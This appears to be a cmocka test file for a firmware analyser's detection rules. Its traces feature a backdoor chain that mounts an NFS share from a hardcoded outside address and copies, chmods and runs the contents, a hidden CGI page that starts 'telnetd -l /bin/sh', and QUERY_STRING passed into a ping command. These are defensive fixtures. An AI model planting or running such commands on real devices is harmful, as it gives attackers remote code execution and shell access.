/* SPDX-License-Identifier: GPL-2.0-or-later */
/* Passes on made-up traces of programs: what must fire, and its benign twin that must not. Scripts, magic words,
 * secrets and the image around are in test_pass_*.c. */
#include "fake_image.h"

static void constant_destination_fires_and_configured_does_not(void **state)
{
	(void)state;
	struct fake k;
	fake_begin(&k);
	fake_program(&k, "bin/monitor");
	fake_calls_home(&k, "to=@203.0.113.5/515");
	fake_call(&k, CALL_SEND, "send", "fd=#5", "data=\"hello", NULL);
	fake_fires(&k, "fw.fixed-destination", SEV_HIGH);
	assert_true(fake_says(&k, k.found[0], "\"setting\":\"constant only\""));
	assert_true(fake_says(&k, k.found[0], "\"range\":\"documentation\""));
	assert_true(fake_says(&k, k.found[0], "\"transport\":\"tcp\""));
	assert_true(fake_says(&k, k.found[0], "ward.bin > 0x10000 cramfs > bin/monitor"));
	fake_end(&k);

	static const char *const benign[] = { "to=~203.0.113.5/515", "to=@192.168.1.5/515", "to=@127.0.0.1/515",
					      "to=@203.0.113.5/53",  "to=@224.0.0.1/515",   "to=@255.255.255.255/9610" };
	for (size_t i = 0; i < ARRAY_LEN(benign); i++) {
		fake_begin(&k);
		fake_program(&k, "bin/monitor");
		fake_calls_home(&k, benign[i]);
		fake_call(&k, CALL_SEND, "send", "fd=#5", "data=\"hello", NULL);
		fake_quiet(&k);
		assert_int_equal(k.nfound, 0);
		fake_end(&k);
	}
}

static void a_default_is_told_from_a_constant(void **state)
{
	(void)state;
	struct fake k;
	fake_begin(&k);
	fake_program(&k, "bin/monitor");
	struct record *a = fake_call(&k, CALL_NETWORK, "connect", "fd=#5", "to=@203.0.113.5/515", NULL);
	fake_path(&k, 2, 1, 0);
	struct record *b = fake_call(&k, CALL_NETWORK, "connect", "fd=#5", "to=~198.51.100.1/515", NULL);
	record_uint(b, FWC_SITE, record_get_uint(a, FWC_SITE));
	fake_fires(&k, "fw.fixed-destination", SEV_MEDIUM);
	assert_true(fake_says(&k, k.found[0], "default that configuration may replace"));
	fake_end(&k);
}

static void overwrite(struct fake *k, const char *mount, bool check)
{
	fake_call(k, CALL_RUN, "system", "command=\"ifconfig eth0 up", NULL);
	fake_call(k, CALL_RUN, "system", mount, NULL);
	if (check)
		fake_call(k, CALL_CHECK, "EVP_DigestVerifyFinal", NULL);
	fake_call(k, CALL_RUN, "system", "command=\"cp -rf /mnt/* /opt/bin/", NULL);
	fake_call(k, CALL_FILE, "chmod", "path=\"/opt/bin/monitor", "mode=#0755", NULL);
	fake_call(k, CALL_RUN, "execl", "path=\"/opt/bin/monitor", "argv=[monitor", NULL);
}

static void the_known_chain_is_critical(void **state)
{
	(void)state;
	struct fake k;
	fake_begin(&k);
	fake_program(&k, "bin/monitor");
	overwrite(&k, "command=\"mount -o nolock -t nfs 202.114.4.119:/pm /mnt", false);
	fake_fires(&k, "fw.code-overwrite", SEV_CRITICAL);
	struct finding *f = fake_found(&k, "fw.code-overwrite");
	if (!f)
		return;
	assert_int_equal(f->nsteps, 5);
	assert_int_equal(f->observed->v[OBS_STEPS].texts.n, 5);
	assert_non_null(fake_found(&k, "fw.remote-mount"));
	assert_non_null(fake_found(&k, "fw.interface-forced"));
	assert_non_null(fake_found(&k, "fw.unverified-update"));
	char id[CASE_ID_TEXT], other[CASE_ID_TEXT];
	case_id(f, id);
	case_id(fake_found(&k, "fw.remote-mount"), other);
	assert_string_equal(id, other);
	fake_end(&k);

	fake_begin(&k);
	fake_program(&k, "bin/monitor");
	fake_call(&k, CALL_CONFIG, "nvram_get", "name=\"lan_up", NULL);
	overwrite(&k, "command=\"mount -o nolock -t nfs {file:/etc/update.conf}:/pm /mnt", true);
	fake_quiet(&k);
	fake_end(&k);
}

static void steps_on_different_paths_do_not_add_up(void **state)
{
	(void)state;
	struct fake k;
	fake_begin(&k);
	fake_program(&k, "bin/monitor");
	fake_path(&k, 2, 1, 0);
	fake_call(&k, CALL_RUN, "system", "command=\"mount -t nfs 203.0.113.5:/pm /mnt", NULL);
	fake_path(&k, 3, 1, 0);
	fake_call(&k, CALL_RUN, "system", "command=\"cp -rf /mnt/* /opt", NULL);
	fake_call(&k, CALL_RUN, "system", "command=\"/opt/x", NULL);
	fake_run(&k);
	assert_null(fake_found(&k, "fw.code-overwrite"));
	assert_non_null(fake_found(&k, "fw.remote-mount"));
	fake_end(&k);

	fake_begin(&k);                          /* the same on one path, parted by a branch */
	fake_program(&k, "bin/monitor");
	fake_call(&k, CALL_MOUNT, "mount", "source=\"203.0.113.5:/pm", "target=\"/mnt", "type=\"nfs", "flags=#0",
		  "data=\"nolock", NULL);
	uint64_t here = k.order;
	fake_path(&k, 2, 1, here);
	fake_call(&k, CALL_RUN, "execv", "path=\"/bin/cp", "argv=[cp|-rf|/mnt/.|/opt", NULL);
	fake_call(&k, CALL_RUN, "system", "command=\"/opt/x &", NULL);
	fake_fires(&k, "fw.code-overwrite", SEV_CRITICAL);
	fake_end(&k);
}

static void an_interface_that_is_asked_for_is_fine(void **state)
{
	(void)state;
	static const struct {
		const char *config, *name;
		bool fires;
	} cases[] = { { "path=\"/etc/monitor.conf", "data=\"eth0", false },
		      { NULL, "data=\"eth0", true },
		      { "name=\"lan", "data=\"eth0", false },
		      { NULL, "data=\"{argv}", false },
		      { NULL, "data=\"", false } };
	for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
		struct fake k;
		fake_begin(&k);
		fake_program(&k, "bin/monitor");
		if (cases[i].config && cases[i].config[0] == 'p')
			fake_call(&k, CALL_FILE, "fopen", cases[i].config, "mode=\"r", NULL);
		else if (cases[i].config)
			fake_call(&k, CALL_CONFIG, "nvram_get", cases[i].config, NULL);
		fake_call(&k, CALL_INTERFACE, "ioctl", "fd=#3", "request=#0x8914", cases[i].name, NULL);
		fake_run(&k);
		assert_int_equal(fake_found(&k, "fw.interface-forced") != NULL, cases[i].fires);
		fake_end(&k);
	}
}

static void checked_input_is_no_injection(void **state)
{
	(void)state;
	static const struct {
		const char *check, *source;
		bool fires;
	} cases[] = { { NULL, "command=\"ping {getenv:QUERY_STRING}", true }, { NULL, "command=\"ping {recv}", true },
		      { "text=\"{recv}", "command=\"ping {recv}", false }, { NULL, "command=\"ping {argv}", false },
		      { NULL, "command=\"ping {file:/etc/host.conf}", false }, { NULL, "command=\"ping {getenv:HOME}", false } };
	for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
		struct fake k;
		fake_begin(&k);
		fake_program(&k, "www/cgi-bin/ping");
		if (cases[i].check)
			fake_call(&k, CALL_RESOLVE, "inet_pton", "family=#2", cases[i].check, NULL);
		fake_call(&k, CALL_RUN, "system", cases[i].source, NULL);
		fake_run(&k);
		assert_int_equal(fake_found(&k, "fw.command-injection") != NULL, cases[i].fires);
		fake_end(&k);
	}
}

static void a_name_that_was_compared_is_no_outside_path(void **state)
{
	struct fake k;
	(void)state;
	fake_begin(&k);
	fake_program(&k, "www/cgi-bin/get");
	(void)fake_call(&k, CALL_COMPARE, "strcmp", "a=\"{getenv:QUERY_STRING}", "b=\"trend", NULL);
	(void)fake_call(&k, CALL_FILE, "fopen", "path=\"/data/{getenv:QUERY_STRING}", "mode=\"w", NULL);
	(void)fake_call(&k, CALL_FILE, "fopen", "path=\"/data/{file:/etc/app.conf}", "mode=\"w", NULL);
	fake_quiet(&k);
	fake_end(&k);

	fake_begin(&k);
	fake_program(&k, "www/cgi-bin/get");
	(void)fake_call(&k, CALL_FILE, "fopen", "path=\"/data/{getenv:HOME}/{getenv:QUERY_STRING}", "mode=\"w", NULL);
	fake_fires(&k, "fw.outside-text-to-path", SEV_MEDIUM);
	fake_end(&k);

	fake_begin(&k);
	fake_program(&k, "bin/wifi");
	(void)fake_call(&k, CALL_FILE, "unlink", "path=\"/tmp/{command:iwlist wlan0 scan}", NULL);
	fake_fires(&k, "fw.outside-text-to-path", SEV_MEDIUM);
	fake_end(&k);

	fake_begin(&k);
	fake_program(&k, "bin/logd");
	(void)fake_call(&k, CALL_WRITE, "syslog", "format=\"{socket:inet datagram}", NULL);
	fake_fires(&k, "fw.outside-text-to-path", SEV_HIGH);
	fake_end(&k);

	fake_begin(&k);
	fake_program(&k, "bin/logd");
	(void)fake_call(&k, CALL_WRITE, "syslog", "format=\"{file:/usr/share/locale/de}", NULL);
	fake_quiet(&k);
	fake_end(&k);
}

static void a_page_that_nothing_names_is_told(void **state)
{
	struct fake k;
	(void)state;
	/* No menu at all: nothing is missing from it. */
	fake_begin(&k);
	(void)fake_file(&k, "www/cgi-bin/status.cgi", SCENE_SCRIPT, "#!/bin/sh\necho\n");
	(void)fake_file(&k, "www/index.html", SCENE_OTHER, "<html></html>");
	fake_quiet(&k);
	assert_null(fake_found(&k, "fw.orphan-page"));
	fake_end(&k);

	fake_begin(&k);
	(void)fake_file(&k, "www/index.html", SCENE_OTHER,
			"<a href=\"cgi-bin/status.cgi?x=1\">status</a> <script>go('setup')</script>");
	(void)fake_file(&k, "www/cgi-bin/status.cgi", SCENE_SCRIPT, "#!/bin/sh\necho\n");
	(void)fake_file(&k, "www/setup.html", SCENE_OTHER, "<html></html>");
	(void)fake_file(&k, "www/404.html", SCENE_OTHER, "<html></html>");
	(void)fake_file(&k, "usr/share/doc/www/notes.html", SCENE_OTHER, "<html></html>");
	fake_quiet(&k);
	assert_null(fake_found(&k, "fw.orphan-page"));
	(void)fake_file(&k, "www/cgi-bin/fac.cgi", SCENE_SCRIPT, "#!/bin/sh\ntelnetd -l /bin/sh\n");
	fake_fires(&k, "fw.orphan-page", SEV_MEDIUM);
	fake_end(&k);

	fake_begin(&k);
	(void)fake_file(&k, "www/index.html", SCENE_OTHER, "<a href=\"a.html\">a</a> <form action=\"/goform/save\">");
	(void)fake_file(&k, "www/a.html", SCENE_OTHER, "<html></html>");
	fake_program(&k, "usr/sbin/httpd");
	(void)fake_call(&k, CALL_COMPARE, "strcmp", "a=\"{socket:inet stream}", "b=\"/goform/save", NULL);
	(void)fake_call(&k, CALL_COMPARE, "strcmp", "a=\"{file:/etc/x}", "b=\"/goform/other", NULL);
	fake_quiet(&k);
	(void)fake_call(&k, CALL_COMPARE, "strcmp", "a=\"{socket:inet stream}", "b=\"/goform/factory", NULL);
	fake_fires(&k, "fw.orphan-page", SEV_LOW);
	fake_end(&k);
}

/* A program that reads its server from a file: what the image and its scripts say of that file. */
static const struct {
	const char *path, *text;
	enum scene_kind kind;
	const char *source;
	int severity;
	uint64_t port;
} graphs[] = {
	{ "etc/app.conf", "# server=203.0.113.9\nserver=10.0.0.2\nnetmask=255.255.255.0\n", SCENE_OTHER, "file:/etc/app.conf",
	  -1, 0 },
	{ "etc/other.conf", "server=203.0.113.9\n", SCENE_OTHER, "file:/etc/app.conf", -1, 0 },
	{ "etc/app.conf", "dns1=203.0.113.53\nname=ward.example\n", SCENE_OTHER, "file:/etc/app.conf", -1, 0 },
	{ "etc/app.conf", "server=ward.example\n", SCENE_OTHER, "file:/etc/app.conf", SEV_LOW, 515 },
	{ "etc/app.conf", "server=203.0.113.9\n", SCENE_OTHER, "file:/etc/app.conf", SEV_MEDIUM, 515 },
	{ "etc/app.json", "{\n \"server\": \"203.0.113.9\",\n}\n", SCENE_OTHER, "file:/etc/app.json", SEV_MEDIUM, 515 },
	{ "etc/app.xml", "<a>\n <server>203.0.113.9</server>\n</a>\n", SCENE_OTHER, "file:/etc/app.xml", SEV_MEDIUM, 515 },
	{ "etc/config/app", "config x\n\toption server '203.0.113.9'\n", SCENE_OTHER, "file:/etc/config/app", SEV_MEDIUM,
	  515 },
	{ "etc/init.d/S1", "H=203.0.113.9\necho \"server=$H\" > /etc/app.conf\n", SCENE_SCRIPT, "file:/etc/app.conf",
	  SEV_MEDIUM, 515 },
	{ "etc/init.d/S1", "cat > /etc/app.conf <<E\nserver=203.0.113.9\nE\n", SCENE_SCRIPT, "file:/etc/app.conf", SEV_MEDIUM,
	  515 },
	{ "etc/init.d/S1", "sed -i 's/^server=.*/server=203.0.113.9/' /etc/app.conf\n", SCENE_SCRIPT, "file:/etc/app.conf",
	  SEV_MEDIUM, 515 },
	{ "etc/init.d/S1", "echo server=$1 > /etc/app.conf\n", SCENE_SCRIPT, "file:/etc/app.conf", -1, 0 },
	{ "etc/init.d/S1", "export HOST=203.0.113.9\nbin/app\n", SCENE_SCRIPT, "getenv:HOST", SEV_MEDIUM, 515 },
	{ "etc/init.d/S1", "HOST=203.0.113.9\nexport HOST\n", SCENE_SCRIPT, "getenv:HOST", SEV_MEDIUM, 515 },
	{ "etc/init.d/S1", "HOST=203.0.113.9 /bin/app\n", SCENE_SCRIPT, "getenv:HOST", SEV_MEDIUM, 515 },
	{ "etc/init.d/S1", "HOST=203.0.113.9\n/bin/app\n", SCENE_SCRIPT, "getenv:HOST", -1, 0 },
	{ "etc/init.d/S1", "nvram set server=203.0.113.9\n", SCENE_SCRIPT, "config:server", SEV_MEDIUM, 515 },
	{ "etc/init.d/S1", "nvram set other=203.0.113.9\n", SCENE_SCRIPT, "config:server", -1, 0 },
};

static void settings_that_the_image_holds_are_defaults(void **state)
{
	(void)state;
	for (size_t i = 0; i < ARRAY_LEN(graphs); i++) {
		struct fake k;
		fake_begin(&k);
		(void)fake_file(&k, graphs[i].path, graphs[i].kind, graphs[i].text);
		fake_program(&k, "bin/app");
		(void)fake_call(&k, CALL_NETWORK, "connect", "fd=#3",
				arena_printf(&k.arena, "address=~{%s}/515", graphs[i].source), NULL);
		fake_run(&k);
		const struct finding *f = fake_found(&k, "fw.fixed-destination");
		int got = fake_severity(f);
		if (got != graphs[i].severity)
			fail_msg("%zu: %d, expected %d: %s", i, got, graphs[i].severity, graphs[i].text);
		if (f) {
			assert_int_equal(record_get_uint(f->observed, OBS_PORT), graphs[i].port);
			assert_true(f->nsteps >= 2);
			assert_true(span_is(record_get_text(f->steps[0], STEP_MEMBER), graphs[i].path));
		}
		fake_end(&k);
	}
}

static void a_key_that_is_compared_picks_its_setting(void **state)
{
	struct fake k;
	(void)state;
	fake_begin(&k);
	(void)fake_file(&k, "etc/app.conf", SCENE_OTHER, "update=203.0.113.7\nserver=10.0.0.2\n");
	fake_program(&k, "bin/app");
	(void)fake_call(&k, CALL_COMPARE, "strncmp", "a=\"{file:/etc/app.conf}", "b=\"server=", NULL);
	(void)fake_call(&k, CALL_NETWORK, "connect", "fd=#3", "address=~{file:/etc/app.conf}/515", NULL);
	fake_quiet(&k);
	fake_end(&k);
}

/* Met in Debian's own programs: searches in text, words of files, accounts looked up to give up rights,
 * anonymous FTP, structures that nobody filled. */
static void what_ordinary_programs_do_is_nothing(void **state)
{
	(void)state;
	struct fake k;
	fake_begin(&k);
	fake_program(&k, "usr/sbin/lpd");
	fake_call(&k, CALL_LOGIN, "getpwnam", "name=\"daemon", NULL);
	fake_call(&k, CALL_COMPARE, "strcmp", "left=\"{stdin}", "right=\"printer", NULL);
	fake_call(&k, CALL_SEND, "send", "fd=#5", "data=\"Password: ", NULL);
	fake_call(&k, CALL_COMPARE, "strstr", "left=\"{socket:accepted}", "right=\"cgi-bin", NULL);
	fake_call(&k, CALL_COMPARE, "strcmp", "left=\"{file:/var/spool/lpd}", "right=\"hostname", NULL);
	fake_call(&k, CALL_SEND, "write", "fd=#5", "data=\"PASS -wget@\r\n", NULL);
	fake_call(&k, CALL_SEND, "write", "fd=#5", "data=\"PASS TROY CUBE EAR SCAR SAUL BATH\r\n", NULL);
	fake_call(&k, CALL_SEND, "sendto", "fd=#5", "data=\"x", "to=@40.125.15.126/0", NULL);
	fake_call(&k, CALL_INTERFACE, "ioctl", "fd=#5", "request=#0x8914", "data=\"\x01", NULL);
	fake_quiet(&k);
	fake_end(&k);
}

/* Met in programs of other distributions: each is one call after those that led to it. */
static void what_servers_and_clients_do_is_nothing(void **state)
{
	(void)state;
	struct fake k;
	fake_begin(&k);
	fake_program(&k, "usr/sbin/daemon");
	/* a view of the kernel's own server */
	fake_call(&k, CALL_RUN, "system", "command=\"mount -t nfsd nfsd /proc/fs/nfsd", NULL);
	fake_call(&k, CALL_MOUNT, "mount", "source=\"nfsd", "target=\"/proc/fs/nfsd", "type=\"nfsd", NULL);
	/* a number, or digits, where an address goes; which way packets would go */
	fake_calls_home(&k, "to=@268474468.0.0.0/39868");
	fake_calls_home(&k, "to=@24.0.0.0/67");
	fake_call(&k, CALL_SEND, "send", "fd=#5", "data=\"hello", NULL);
	record_int(fake_call(&k, CALL_NETWORK, "socket", "family=#2", "type=#2", "protocol=#17", NULL), FWC_RESULT, 6);
	fake_call(&k, CALL_NETWORK, "connect", "fd=#6", "to=@203.0.113.1/9", NULL);
	record_str(fake_call(&k, CALL_NETWORK, "getsockname", "fd=\"socket inet datagram", NULL), FWC_FUNCTION, "way");
	/* a library that tests its crypt() */
	fake_call(&k, CALL_COMPARE, "strcmp", "left=\"{result of a function}", "right=\"$2y$04$abcdefghijklmnopqrstu", NULL);
	/* the server's answer behind PASS, settings of the network's, netlink */
	fake_call(&k, CALL_SEND, "write", "fd=#5", "data=\"PASS ", NULL);
	fake_call(&k, CALL_COMPARE, "strncasecmp", "left=\"{socket:inet stream}", "right=\"-ERR [AUTH] too many logins", NULL);
	record_int(fake_call(&k, CALL_COMPARE, "strcmp", "a=\"{file:/etc/network/interfaces}", "b=\"rename", NULL),
		   FWC_RESULT, 0);
	fake_call(&k, CALL_FILE, "unlink", "path=\"/run/{file:/run/network/state}", NULL);
	fake_call(&k, CALL_FILE, "unlink", "path=\"/sys/{socket:netlink raw}", NULL);
	fake_call(&k, CALL_FILE, "unlink", "path=\"/run/{socket:unix stream}", NULL);
	fake_quiet(&k);
	fake_end(&k);

	fake_begin(&k);
	fake_program(&k, "usr/sbin/hostapd");
	/* names of interfaces that are none yet */
	fake_call(&k, CALL_INTERFACE, "ioctl", "fd=#5", "request=#0x8914", "data=\"mon.", NULL);
	struct record *closed = fake_call(&k, CALL_INTERFACE, "ioctl", "fd=\"standard", "request=#0x8914", NULL);
	record_int((struct record *)closed->v[FWC_ARGS].records.v[0], ARG_NUMBER, 0);
	fake_call(&k, CALL_INTERFACE, "ioctl", "fd=#5", "request=#0x8914", "data=\"mon.%s", NULL);
	fake_call(&k, CALL_INTERFACE, "ioctl", "fd=#5", "request=#0x8914", "data=\"vlan270287284", NULL);
	fake_quiet(&k);
	fake_end(&k);

	fake_begin(&k);
	fake_program(&k, "usr/sbin/telnetd");
	fake_call(&k, CALL_RUN, "system", "command=\"/usr/sbin/telnetd", NULL);
	fake_quiet(&k);
	fake_end(&k);
}

static void patients_fields_to_a_fixed_address(void **state)
{
	(void)state;
	static const struct {
		const char *to, *text;
		int severity;
	} cases[] = {
		{ "to=@203.0.113.5/515", "data=\"MSH|^~\\&|MON|\rPID|1||{file:/tmp/patient}", SEV_HIGH },
		{ "to=@203.0.113.5/515", "data=\"patient_name={x};birth_date={y}", SEV_HIGH },
		{ "to=~203.0.113.5/515", "data=\"MSH|^~\\&|MON|", -1 },
		{ "to=@203.0.113.5/515", "data=\"GET / HTTP/1.0\r\n", -1 },
		{ "to=@127.0.0.1/515", "data=\"MSH|^~\\&|MON|", -1 },
	};
	for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
		struct fake k;
		fake_begin(&k);
		fake_program(&k, "bin/monitor");
		fake_calls_home(&k, cases[i].to);
		fake_call(&k, CALL_SEND, "send", "fd=#5", cases[i].text, NULL);
		fake_run(&k);
		struct finding *f = fake_found(&k, "fw.patient-data-sender");
		assert_int_equal(fake_severity(f), cases[i].severity);
		fake_end(&k);
	}
}

static void endless_parents_end(void **state)
{
	(void)state;
	struct fake k;
	fake_begin(&k);
	fake_program(&k, "bin/monitor");
	fake_path(&k, 2, 3, 5);
	fake_path(&k, 3, 2, 5);
	fake_path(&k, 4, 4, 5);
	fake_calls_home(&k, "to=@203.0.113.5/515");
	fake_call(&k, CALL_RUN, "system", NULL);
	fake_call(&k, CALL_RUN, "execve", NULL);
	fake_call(&k, CALL_MOUNT, "mount", NULL);
	fake_call(&k, CALL_INTERFACE, "ioctl", NULL);
	fake_call(&k, CALL_COMPARE, "strcmp", NULL);
	fake_call(&k, CALL_FILE, "chmod", NULL);
	fake_call(&k, CALL_NETWORK, "bind", NULL);
	fake_call(&k, CALL_RESOLVE, "getaddrinfo", NULL);
	fake_run(&k);
	fake_end(&k);
}

static void texts_of_rules_say_what_they_see(void **state)
{
	(void)state;
	for (int i = 0; passes[i]; i++) {
		const struct rule *r = passes[i]->rule;
		assert_true(strncmp(r->id, "fw.", 3) == 0);
		assert_non_null(r->title);
		assert_non_null(r->cause);
		assert_true(r->sees && r->why && r->wrong && r->next[0] && r->attack[0] && r->cwe[0]);
		assert_null(strstr(r->why, "backdoor"));
		assert_null(strstr(r->title, "backdoor"));
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(constant_destination_fires_and_configured_does_not),
		cmocka_unit_test(a_default_is_told_from_a_constant),
		cmocka_unit_test(the_known_chain_is_critical),
		cmocka_unit_test(steps_on_different_paths_do_not_add_up),
		cmocka_unit_test(an_interface_that_is_asked_for_is_fine),
		cmocka_unit_test(checked_input_is_no_injection),
		cmocka_unit_test(a_name_that_was_compared_is_no_outside_path),
		cmocka_unit_test(a_page_that_nothing_names_is_told),
		cmocka_unit_test(settings_that_the_image_holds_are_defaults),
		cmocka_unit_test(a_key_that_is_compared_picks_its_setting),
		cmocka_unit_test(what_ordinary_programs_do_is_nothing),
		cmocka_unit_test(what_servers_and_clients_do_is_nothing),
		cmocka_unit_test(patients_fields_to_a_fixed_address),
		cmocka_unit_test(endless_parents_end),
		cmocka_unit_test(texts_of_rules_say_what_they_see),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
